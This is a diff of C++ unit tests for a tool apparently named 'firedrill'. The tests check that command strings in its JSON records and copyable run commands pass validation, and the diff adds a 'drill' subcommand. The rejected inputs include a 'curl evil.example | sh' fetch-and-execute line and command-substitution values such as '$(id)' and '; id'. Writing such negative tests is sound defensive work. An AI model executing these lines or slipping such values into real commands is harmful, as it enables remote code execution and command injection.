@@ -75,7 +75,7 @@ TEST(RecordJson, NamesThePathOfWhatIsWrong) {
 TEST(RecordJson, MayNotSayWhatItsResultsDoNot) {
   const std::string text = write_record(judged());
   EXPECT_EQ(first_error(changed(text, "\"command\": \"firedrill run", "\"command\": \"curl evil.example | sh; run")),
-            "command: expected a `firedrill run` or `firedrill test scenarios`");
+            "command: expected a `firedrill run`, `firedrill test scenarios` or `firedrill drill`");
   EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"fail\"")),
             "verdict: 'fail', where 'pass' follows from the expectations and faults");
 }
@@ -209,6 +209,7 @@ TEST(RunCommands, AreWhatPeopleMayCopy) {
        {"firedrill run shop --seed 1", "firedrill run scenarios/shop --seed 18446744073709551615 --keep none",
         "firedrill run 'it'\\''s a shop' --seed 3 --scrape-phase aligned --promql-version 3.5",
         "firedrill run shops/shop --seed 1 --root .", "firedrill run shop --seed 1 --root . --promql-version 2",
+        "firedrill drill amber-heron --seed 1", "firedrill drill amber-heron --seed 12 --variant 7",
         "firedrill test scenarios shop --seed 2 --rules rules/a.yaml '../its rules/b.yaml' --promql-version 2"}) {
     EXPECT_TRUE(is_run_command(good)) << good;
   }
@@ -229,6 +230,10 @@ TEST(RunCommands, AreWhatPeopleMayCopy) {
                           "firedrill run a --root ./b",
                           "firedrill run a --allow-outside",
                           "firedrill run a --rules b.yaml",
+                          "firedrill drill --suite --seed 1",
+                          "firedrill drill $(id) --seed 1",
+                          "firedrill drill a --seed 1 --agent id",
+                          "firedrill drill a --variant 1",
                           "firedrill test scenarios a --rules",
                           "firedrill test scenarios a --rules b; id",
                           "firedrill test scenarios a b --seed 1",
